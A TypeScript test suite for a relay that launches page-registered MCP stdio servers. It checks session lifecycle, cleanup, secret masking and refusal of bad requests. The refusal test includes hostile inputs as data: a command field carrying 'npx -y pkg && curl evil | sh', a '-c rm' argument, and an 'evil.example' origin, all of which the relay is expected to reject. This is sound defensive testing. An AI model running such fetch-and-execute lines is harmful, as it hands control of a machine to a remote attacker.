// The relay's stdio part (scripts/_relay_stdio.ts): with `stdio: true` it starts a command the
// page registered with the token and speaks Streamable HTTP for it, one child per session, ended
// by the session's DELETE, by removing the registration, by closing the relay and by sitting idle
// past the timeout (a page that went away without DELETE); two servers with the same command are
// two registrations; without the token, from another Origin, or with `stdio` off it starts nothing.
// A process waits ready for each server before its sessions ask (it answered the relay's ping),
// within a start-up allowance; a program that exits or never gets ready is said so, stderr and
// all; stopping ends what a program started too (its process group).
// Children are counted in /proc (processes of this one whose environment carries a test's mark).
import assert from "node:assert/strict";
import { mkdtemp, readdir, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import http from "node:http";
import process from "node:process";
import { after, describe, test } from "node:test";
import { connect } from "../lib/mcp/client/client.ts";
import { type Relay, startRelay, TOKEN_HEADER } from "../scripts/_relay.ts";
import { fixture } from "./mcp/_stdio_helpers.ts";
import { waitUntil } from "./_wait.ts";

const ORIGIN = "http://127.0.0.1:5173";
const EVERYTHING = {
  command: process.execPath,
  args: ["node_modules/@modelcontextprotocol/server-everything/dist/index.js", "stdio"],
};
const MEMORY_JS = "node_modules/@modelcontextprotocol/server-memory/dist/index.js";

function send(url: string, headers: Record<string, string>, method: string, body = "") {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = http.request(url, { method, headers, agent: false }, (res) => {
      let text = "";
      res.setEncoding("utf8");
      res.on("data", (chunk) => (text += chunk));
      res.on("end", () => resolve({ status: res.statusCode!, body: text }));
    });
    req.on("error", reject);
    req.end(body);
  });
}

/** Live processes whose parent is this one and whose environment has RELAY_TEST_MARK=`mark`. */
async function processes(mark: string): Promise<number[]> {
  const found: number[] = [];
  for (const entry of await readdir("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const stat = await readFile(`/proc/${entry}/stat`, "utf8");
      const [state, ppid] = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
      if (Number(ppid) !== process.pid || state === "Z") continue;
      const env = (await readFile(`/proc/${entry}/environ`, "utf8")).split("\0");
      if (env.includes(`RELAY_TEST_MARK=${mark}`)) found.push(Number(entry));
    } catch {
      // ended meanwhile
    }
  }
  return found;
}

/** Live processes anywhere (grandchildren too) whose environment has RELAY_TEST_MARK=`mark`. */
async function anywhere(mark: string): Promise<number[]> {
  const found: number[] = [];
  for (const entry of await readdir("/proc")) {
    if (!/^\d+$/.test(entry) || Number(entry) === process.pid) continue;
    try {
      const stat = await readFile(`/proc/${entry}/stat`, "utf8");
      if (stat.slice(stat.lastIndexOf(")") + 2).startsWith("Z")) continue;
      const env = (await readFile(`/proc/${entry}/environ`, "utf8")).split("\0");
      if (env.includes(`RELAY_TEST_MARK=${mark}`)) found.push(Number(entry));
    } catch {
      // ended meanwhile
    }
  }
  return found;
}

/** Register `command` on `relay`; the route and what `POST /stdio` said of its process. */
async function register(relay: Relay, command: unknown) {
  const added = await send(
    `${relay.url}/stdio`,
    headersFor(relay),
    "POST",
    JSON.stringify(command),
  );
  assert.equal(added.status, 201, added.body);
  return JSON.parse(added.body) as { url: string; ready: boolean; error?: string };
}

/** server-everything over stdio, its processes marked `mark`; `name`: the page's server. */
function marked(mark: string, name?: string) {
  return { ...EVERYTHING, env: { RELAY_TEST_MARK: mark }, ...(name ? { name } : {}) };
}

async function eventually(what: string, check: () => Promise<boolean>, ms = 15_000) {
  const until = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > until) assert.fail(`${what}: not within ${ms} ms`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

function headersFor(relay: Relay): Record<string, string> {
  return {
    host: new URL(relay.url).host,
    origin: ORIGIN,
    [TOKEN_HEADER]: relay.token,
    "content-type": "application/json",
  };
}

function relayedFetch(relay: Relay): typeof fetch {
  return (input, init) => {
    const headers = new Headers(init?.headers);
    headers.set(TOKEN_HEADER, relay.token);
    headers.set("origin", ORIGIN);
    return fetch(input, { ...init, headers });
  };
}

describe("npm start's relay for stdio servers", () => {
  const relays: Relay[] = [];
  after(async () => {
    await Promise.all(relays.map((r) => r.close()));
  });

  test("the relay's terminal is told exactly what a page's stdio server runs, secrets masked", async () => {
    const lines: string[] = [];
    const relay = await startRelay({ origins: [ORIGIN], stdio: true, log: (l) => lines.push(l) });
    relays.push(relay);
    const added = {
      ...marked("log", "http://stdio.local/everything"),
      env: { API_TOKEN: "t-secret-1" },
    };
    const answer = await send(
      `${relay.url}/stdio`,
      headersFor(relay),
      "POST",
      JSON.stringify(added),
    );
    assert.equal(answer.status, 201, answer.body);
    assert.equal(lines.length, 1);
    assert.match(
      lines[0],
      /stdio server \(http:\/\/stdio\.local\/everything\): API_TOKEN=•+ \S+ node_modules\/@modelcontextprotocol\/server-everything\/dist\/index\.js stdio$/,
    );
    assert.doesNotMatch(lines[0], /t-secret-1/);
  });

  test("server-everything over stdio: list, call with progress, DELETE ends the child", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true });
    relays.push(relay);
    const added = await send(
      `${relay.url}/stdio`,
      headersFor(relay),
      "POST",
      JSON.stringify(EVERYTHING),
    );
    assert.equal(added.status, 201, added.body);
    const route = JSON.parse(added.body).url as string;
    const client = await connect({ name: "everything", url: route }, {
      http: { fetch: relayedFetch(relay), retries: 0 },
      timeoutMs: 20_000,
    });
    assert.equal(relay.children(), 1);
    const tools = await client.listTools();
    assert.ok(tools.some((t) => t.name === "echo"), JSON.stringify(tools.map((t) => t.name)));
    const echoed = await client.callTool("echo", { message: "over stdio" });
    assert.match(JSON.stringify(echoed.content), /over stdio/);
    const progress: number[] = [];
    const long = await client.callTool("trigger-long-running-operation", {
      duration: 1,
      steps: 2,
    }, { onProgress: (p) => void progress.push(p.progress) });
    assert.match(JSON.stringify(long.content), /completed/i);
    assert.deepEqual(progress, [1, 2], "progress arrives on the call's own stream");
    await client.close();
    await waitUntil(() => relay.children() === 0, 10_000);
  });

  test("removing the registration and closing the relay end the children", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true });
    relays.push(relay);
    const added = await send(
      `${relay.url}/stdio`,
      headersFor(relay),
      "POST",
      JSON.stringify(EVERYTHING),
    );
    const route = JSON.parse(added.body).url as string;
    const options = { http: { fetch: relayedFetch(relay), retries: 0 }, timeoutMs: 20_000 };
    const one = await connect({ name: "a", url: route }, options);
    await connect({ name: "b", url: route }, options);
    assert.equal(relay.children(), 2, "one child per session");
    const id = new URL(route).pathname.slice(3);
    const removed = await send(`${relay.url}/stdio/${id}`, headersFor(relay), "DELETE");
    assert.equal(removed.status, 204);
    await waitUntil(() => relay.children() === 0, 10_000);
    await assert.rejects(one.listTools());
    await connect({ name: "c", url: route }, options).then(
      () => assert.fail("a removed route still starts processes"),
      () => {},
    );
    assert.equal(relay.children(), 0);
  });

  test("a session whose page went away without DELETE ends after the idle timeout, its spare too", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true, stdioIdleMs: 1_500 });
    relays.push(relay);
    const mark = crypto.randomUUID();
    const added = await send(
      `${relay.url}/stdio`,
      headersFor(relay),
      "POST",
      JSON.stringify(marked(mark)),
    );
    const route = JSON.parse(added.body).url as string;
    // A page that initialized, then crashed: no DELETE, no further request.
    const init = await send(
      route,
      { ...headersFor(relay), accept: "application/json, text/event-stream" },
      "POST",
      JSON.stringify({
        jsonrpc: "2.0",
        id: 1,
        method: "initialize",
        params: {
          protocolVersion: "2025-06-18",
          capabilities: {},
          clientInfo: { name: "gone", version: "1" },
        },
      }),
    );
    assert.equal(init.status, 200, init.body);
    assert.equal(relay.children(), 1);
    await eventually(
      "the session's child and the next spare run",
      async () => (await processes(mark)).length === 2,
    );
    await new Promise((resolve) => setTimeout(resolve, 700));
    assert.equal(relay.children(), 1, "not before the timeout");
    await eventually(
      "idle session and spare ended",
      async () => (await processes(mark)).length === 0,
    );
    assert.equal(relay.children(), 0);
  });

  test("a call longer than the idle timeout is not cut: an open request keeps its session", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true, stdioIdleMs: 1_000 });
    relays.push(relay);
    const mark = crypto.randomUUID();
    const added = await send(
      `${relay.url}/stdio`,
      headersFor(relay),
      "POST",
      JSON.stringify(marked(mark)),
    );
    const client = await connect({ name: "long", url: JSON.parse(added.body).url }, {
      http: { fetch: relayedFetch(relay), retries: 0 },
      timeoutMs: 20_000,
    });
    const long = await client.callTool("trigger-long-running-operation", { duration: 3, steps: 3 });
    assert.match(JSON.stringify(long.content), /completed/i);
    await client.close();
    await eventually("children ended", async () => (await processes(mark)).length === 0);
  });

  test("two servers with the same command: two registrations; removing one leaves the other", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true });
    relays.push(relay);
    const mark = crypto.randomUUID();
    const register = async (name: string) => {
      const added = await send(
        `${relay.url}/stdio`,
        headersFor(relay),
        "POST",
        JSON.stringify(marked(mark, name)),
      );
      assert.equal(added.status, 201, added.body);
      return JSON.parse(added.body).url as string;
    };
    const [a, b] = [
      await register("https://stdio.relay.invalid/a"),
      await register("https://stdio.relay.invalid/b"),
    ];
    assert.notEqual(a, b, "separate routes");
    assert.equal(
      await register("https://stdio.relay.invalid/a"),
      a,
      "the same server again: the same route",
    );
    const options = { http: { fetch: relayedFetch(relay), retries: 0 }, timeoutMs: 20_000 };
    await connect({ name: "a", url: a }, options);
    const other = await connect({ name: "b", url: b }, options);
    await eventually(
      "two sessions and two spares",
      async () => (await processes(mark)).length === 4,
    );
    const removed = await send(
      `${relay.url}/stdio/${new URL(a).pathname.slice(3)}`,
      headersFor(relay),
      "DELETE",
    );
    assert.equal(removed.status, 204);
    await eventually(
      "a's session and spare ended",
      async () => (await processes(mark)).length === 2,
    );
    assert.equal(relay.children(), 1);
    assert.ok((await other.listTools()).some((t) => t.name === "echo"), "b still answers");
    await other.close();
  });

  test("two npm servers, two sessions each at once: every session answers, one process each, started ahead", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true });
    relays.push(relay);
    const mark = crypto.randomUUID();
    const memoryFile = join(await mkdtemp(join(tmpdir(), "relay-memory-")), "memory.jsonl");
    const servers = {
      everything: marked(mark, "https://stdio.relay.invalid/everything"),
      memory: {
        command: process.execPath,
        args: [MEMORY_JS],
        env: { RELAY_TEST_MARK: mark, MEMORY_FILE_PATH: memoryFile },
        name: "https://stdio.relay.invalid/memory",
      },
    };
    const routes: Record<string, string> = {};
    for (const [name, command] of Object.entries(servers)) {
      const answer = await register(relay, command);
      assert.equal(answer.ready, true, answer.error);
      routes[name] = answer.url;
    }
    // Before any session asks, each server has a process that already answered.
    assert.equal((await processes(mark)).length, 2);
    assert.equal(relay.started(), 2);
    const options = { http: { fetch: relayedFetch(relay), retries: 0 }, timeoutMs: 15_000 };
    const sessions = await Promise.all(
      ["everything", "everything", "memory", "memory"].map(async (name) => {
        const client = await connect({ name, url: routes[name] }, options);
        return { name, client, tools: await client.listTools() };
      }),
    );
    for (const { name, tools } of sessions) {
      const expected = name === "everything" ? "echo" : "create_entities";
      assert.ok(tools.some((t) => t.name === expected), `${name}: ${tools.map((t) => t.name)}`);
    }
    // One process per session (no second start, no retry) and one spare per server again.
    assert.equal(relay.children(), 4);
    assert.equal(relay.started(), 6);
    await eventually("4 sessions and 2 spares", async () => (await processes(mark)).length === 6);
    await Promise.all(sessions.map(({ client }) => client.close()));
    await waitUntil(() => relay.children() === 0, 10_000);
  });

  test("a slow start is waited for within the allowance; an exit or no answer is said, with stderr", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true, stdioStartupMs: 10_000 });
    const strict = await startRelay({ origins: [ORIGIN], stdio: true, stdioStartupMs: 1_000 });
    relays.push(relay, strict);
    const mark = crypto.randomUUID();
    const env = { RELAY_TEST_MARK: mark };
    // The SDK server behind a wrapper that sleeps 1.5 s first (as `npx -y` fetching): ready
    // within the 10 s allowance.
    const started = Date.now();
    const slow = await register(relay, { ...fixture("sdk_server.ts", "--delay", "1500"), env });
    assert.equal(slow.ready, true, slow.error);
    assert.ok(Date.now() - started >= 1_500, "answered once the process was ready");
    const client = await connect({ name: "slow", url: slow.url }, {
      http: { fetch: relayedFetch(relay), retries: 0 },
      timeoutMs: 5_000,
    });
    assert.ok((await client.listTools()).some((t) => t.name === "echo"));
    await client.close();

    const exits = await register(relay, {
      command: process.execPath,
      args: ["-e", "console.error('cannot open the database'); process.exit(3)"],
      env,
    });
    assert.equal(exits.ready, false);
    assert.match(exits.error!, /exited with code 3/);
    assert.match(exits.error!, /cannot open the database/);
    // A session on it: its initialize is answered at once with why (a new start, the same end).
    await assert.rejects(
      connect({ name: "exits", url: exits.url }, {
        http: { fetch: relayedFetch(relay), retries: 0 },
        timeoutMs: 5_000,
      }),
      /502|exited with code 3/,
    );

    const quiet = crypto.randomUUID();
    const silent = await register(strict, {
      command: process.execPath,
      args: ["-e", "console.error('waiting for nothing'); setInterval(() => {}, 1000)"],
      env: { RELAY_TEST_MARK: quiet },
    });
    assert.equal(silent.ready, false);
    assert.match(silent.error!, /1000 ms start-up allowance/);
    assert.match(silent.error!, /waiting for nothing/);
    await eventually("the silent program ended", async () => (await anywhere(quiet)).length === 0);
  });

  test("removing a server ends what its program started too (npx-like wrappers)", async () => {
    const relay = await startRelay({ origins: [ORIGIN], stdio: true });
    relays.push(relay);
    const mark = crypto.randomUUID();
    // Like npx: a wrapper that starts the real server as its child and ignores SIGTERM itself;
    // server-everything does not exit when its stdin closes.
    const wrapper = [
      "const { spawn } = require('node:child_process');",
      `const c = spawn(process.execPath, [${
        JSON.stringify(EVERYTHING.args[0])
      }, 'stdio'], { stdio: 'inherit' });`,
      "process.on('SIGTERM', () => {});",
      "c.on('exit', (code) => process.exit(code ?? 1));",
    ].join(" ");
    const answer = await register(relay, {
      command: process.execPath,
      args: ["-e", wrapper],
      env: { RELAY_TEST_MARK: mark },
    });
    assert.equal(answer.ready, true, answer.error);
    const client = await connect({ name: "wrapped", url: answer.url }, {
      http: { fetch: relayedFetch(relay), retries: 0 },
      timeoutMs: 15_000,
    });
    assert.ok((await client.listTools()).some((t) => t.name === "echo"));
    await eventually("wrappers and servers run", async () => (await anywhere(mark)).length === 4);
    const removed = await send(
      `${relay.url}/stdio/${new URL(answer.url).pathname.slice(3)}`,
      headersFor(relay),
      "DELETE",
    );
    assert.equal(removed.status, 204);
    await eventually("nothing it started is left", async () => (await anywhere(mark)).length === 0);
  });

  test("refused before anything starts: no token, another Origin, stdio off, bad body", async () => {
    const on = await startRelay({ origins: [ORIGIN], stdio: true });
    const off = await startRelay({ origins: [ORIGIN] });
    relays.push(on, off);
    const body = JSON.stringify(EVERYTHING);
    const { [TOKEN_HEADER]: _, ...noToken } = headersFor(on);
    const cases: [Relay, Record<string, string>, string, number, RegExp][] = [
      [on, noToken, body, 401, /token/],
      [on, { ...headersFor(on), origin: "http://evil.example" }, body, 403, /Origin/],
      [off, headersFor(off), body, 403, /RELAY_STDIO=1/],
      [on, headersFor(on), '{"command":""}', 400, /"command"/],
      [on, headersFor(on), '{"command":"x","args":"-c rm"}', 400, /"args"/],
      [
        on,
        headersFor(on),
        '{"command":"npx -y pkg && curl evil | sh"}',
        400,
        /is a shell line, not a program/,
      ],
    ];
    for (const [relay, headers, text, status, error] of cases) {
      const answer = await send(`${relay.url}/stdio`, headers, "POST", text);
      assert.equal(answer.status, status, answer.body);
      assert.match(JSON.parse(answer.body).error, error);
    }
    const unknown = await send(`${on.url}/s/unknown`, headersFor(on), "POST", "{}");
    assert.equal(unknown.status, 403);
    assert.equal(on.children() + off.children(), 0);
  });
});
